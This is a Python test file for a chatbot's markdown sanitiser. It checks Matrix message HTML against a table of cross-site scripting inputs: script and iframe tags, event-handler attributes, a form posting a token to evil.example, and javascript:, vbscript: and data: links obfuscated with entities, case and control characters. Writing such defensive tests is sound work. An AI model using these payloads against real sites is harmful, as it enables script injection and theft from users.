"""The markdown sanitiser against a table of hostile inputs.

What `markdown_html` gives back goes into Matrix messages and into the web board's
pages, so each output is checked for what it must never hold, whatever the input:
only the tags and attributes Matrix allows, links only to http(s) and mailto (as a
browser reads the scheme: entities decoded, case and control characters ignored),
tags that close what they open (nothing can close the board's own elements), and
raw HTML shown as text, not dropped and not obeyed.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest

from chatbot.notify.format import markdown_html, sanitised_html

# The Matrix spec's list (m.room.message, "HTML"), minus what markdown never needs.
ALLOWED_TAGS = {
    "del", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "p", "a", "ul", "ol",
    "sup", "sub", "li", "b", "i", "u", "strong", "em", "s", "code", "hr", "br",
    "div", "table", "thead", "tbody", "tr", "th", "td", "caption", "pre", "span",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href"}, "ol": {"start"}, "code": {"class"}}
SAFE_SCHEMES = {"http", "https", "mailto"}
VOID = {"br", "hr"}
# A browser drops these from a URL before it looks for the scheme (WHATWG URL parser).
_URL_IGNORED = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")

HOSTILE = {
    # tags that run, style or embed something
    "script": "<script>alert(1)</script>",
    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "style": "<style>body{display:none}</style>",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-markdown": "![pixel](https://evil.example/p.png)",
    "img-reference": "![pixel][p]\n\n[p]: https://evil.example/p.png",
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "math-script": "<math><mtext><script>alert(1)</script></mtext></math>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "form": '<form action="https://evil.example"><input name=token></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    # attributes
    "a-onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "div-onclick-block": '<div onclick="alert(1)">\n\n*inside*\n\n</div>',
    "span-style": '<span style="position:fixed;top:0">cover</span>',
    "title-breakout": '[x][r]\n\n[r]: https://ok.example "t\\" onmouseover=\\"alert(1)"',
    "inline-title": '[x](https://ok.example "a title")',
    "quote-in-url": '[x](https://ok.example/"onmouseover="alert(1))',
    "code-info-string": '```"><script>alert(1)</script>\ncode\n```',
    # link schemes, spelled every way a browser would still read them
    "javascript": "[x](javascript:alert(1))",
    "javascript-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "javascript-decimal-entity": "[x](&#106;avascript:alert(1))",
    "javascript-hex-entities": "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "javascript-tab-entity": "[x](java&#09;script:alert(1))",
    "javascript-newline-entity": "[x](java&#10;script:alert(1))",
    "javascript-angle": "[x](<javascript:alert(1)>)",
    "javascript-leading-space-entity": "[x](&#32;javascript:alert(1))",
    "javascript-nul": "[x](java\x00script:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "vbscript-mixed-case": "[x](VbScRiPt:msgbox(1))",
    "data-html": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data-upper": "[x](DATA:text/html,<script>alert(1)</script>)",
    "data-image": "[x](data:image/png;base64,iVBORw0KGgo=)",
    "file": "[x](file:///etc/passwd)",
    "ftp": "[x](ftp://evil.example/)",
    "reference-javascript": "[x][ref]\n\n[ref]: javascript:alert(1)",
    "reference-entity": '[x][r]\n\n[r]: &#106;avascript:alert(1) "title"',
    "reference-data": "[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-upper": "<JAVASCRIPT:alert(1)>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "autolink-data": "<data:text/html,alert(1)>",
    "autolink-email": "<owner@example.org>",
    "nested-link": "[[x](javascript:alert(1))](https://ok.example)",
    "raw-a-javascript": '<a href="javascript:alert(1)">x</a>',
    "raw-a-mixed-case-entities": '<a href=" JaVa&#x09;ScRiPt&#58;alert(1)">x</a>',
    "raw-a-vbscript": "<a href=vbscript:msgbox(1)>x</a>",
    "raw-a-data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "link-in-code": "`[x](javascript:alert(1))`",
    # raw HTML and broken nesting
    "html-comment": "<!-- <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "closing-tags": "</div></div></td></table></main>",
    "crossed-tags": "<b><i>x</b></i>",
    "crossed-emphasis": "**bold _both** end_",
    "unclosed-table": "<table><tr><td>open",
    "table-cell-script": "| a |\n|---|\n| <script>alert(1)</script> |",
    "blockquote-html": "> <iframe src=https://evil.example>\n> quoted",
    "list-html": "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    # size
    "100kb-of-tags": "<script>alert(1)</script>\n" * 4000,
    "100kb-of-links": "[x](javascript:alert(1)) [y](https://ok.example)\n" * 2000,
    "100kb-of-brackets": "[" * 100_000,
    "100kb-of-quotes": "> " * 50_000 + "deep",
}

# Inputs whose words must still reach the reader: raw HTML as text (README: "raw HTML
# in them is shown as text"), so a report quoting markup still says what it quoted;
# an image as its description (a link at most), never a picture loaded from elsewhere.
SHOWN_AS_TEXT = {
    "img-markdown": "pixel",
    "script": "<script>alert(1)</script>",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "closing-tags": "</div></div></td></table></main>",
    "crossed-tags": "<b><i>x</b></i>",
    "table-cell-script": "<script>alert(1)</script>",
    "raw-a-javascript": '<a href="javascript:alert(1)">x</a>',
}


@dataclass
class Parsed:
    starts: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    text: str = ""
    unbalanced: list[str] = field(default_factory=list)


def parse(html: str) -> Parsed:
    """Every tag the HTML really has (escaped text is not a tag), its text, and any
    end tag that closes something it did not open."""
    parsed = Parsed()
    open_tags: list[str] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            parsed.starts.append((tag, {name: value or "" for name, value in attrs}))
            if tag not in VOID:
                open_tags.append(tag)

        def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            parsed.starts.append((tag, {name: value or "" for name, value in attrs}))

        def handle_endtag(self, tag: str) -> None:
            if open_tags and open_tags[-1] == tag:
                open_tags.pop()
            else:
                parsed.unbalanced.append(f"</{tag}>")

        def handle_data(self, data: str) -> None:
            parsed.text += data

        def handle_comment(self, data: str) -> None:
            parsed.unbalanced.append(f"<!--{data}-->")

    collect = Collect(convert_charrefs=True)
    collect.feed(html)
    collect.close()
    parsed.unbalanced += [f"<{tag}> not closed" for tag in open_tags]
    return parsed


def scheme(url: str) -> str | None:
    """The scheme a browser takes from an href (already entity-decoded by the parser)."""
    url = _URL_IGNORED.sub("", url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 \x0b\x0c"))
    found = _SCHEME.match(url)
    return found.group(1).lower() if found else None


def assert_harmless(html: str) -> Parsed:
    parsed = parse(html)
    for tag, attributes in parsed.starts:
        assert tag in ALLOWED_TAGS, (tag, html[:300])
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), (tag, attributes)
        href = attributes.get("href")
        if href is not None:
            # No scheme at all is a link within the page's own site, which runs nothing.
            assert scheme(href) in SAFE_SCHEMES | {None}, href
        if "class" in attributes:
            # One class, the code block's language: no way to borrow the board's classes.
            assert re.fullmatch(r"language-\S+", attributes["class"]), attributes
    assert parsed.unbalanced == [], parsed.unbalanced
    assert "text before" in parsed.text and "text after" in parsed.text
    return parsed


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_markdown_becomes_harmless_html(name: str) -> None:
    parsed = assert_harmless(markdown_html(f"text before\n\n{HOSTILE[name]}\n\ntext after"))
    shown = SHOWN_AS_TEXT.get(name)
    if shown is not None:
        assert shown in parsed.text, parsed.text


@pytest.mark.parametrize("name", HOSTILE)
def test_the_sanitiser_alone_holds_raw_html(name: str) -> None:
    # The second line of defence, as if markdown-it had let the input through as HTML.
    assert_harmless(sanitised_html(f"<p>text before</p>{HOSTILE[name]}<p>text after</p>"))


def test_safe_links_stay_links() -> None:
    # The table above would pass for a renderer that drops every link: this one may not.
    html = markdown_html(
        "[site](https://example.org/a) <https://example.org/b> <owner@example.org> "
        "[ref][r] [rel](/runs)\n\n[r]: http://example.org/c"
    )
    hrefs = [attributes.get("href") for tag, attributes in parse(html).starts if tag == "a"]
    assert hrefs == [
        "https://example.org/a",
        "https://example.org/b",
        "mailto:owner@example.org",
        "http://example.org/c",
        "/runs",
    ]


def test_the_scheme_is_read_as_a_browser_reads_it() -> None:
    assert scheme("JaVa\tScRiPt:alert(1)") == "javascript"
    assert scheme("\x01 javascript:x") == "javascript"
    assert scheme("https://ok.example") == "https"
    assert scheme("/runs") is None
    assert scheme("java%20script:x") is None  # a path, for a browser too
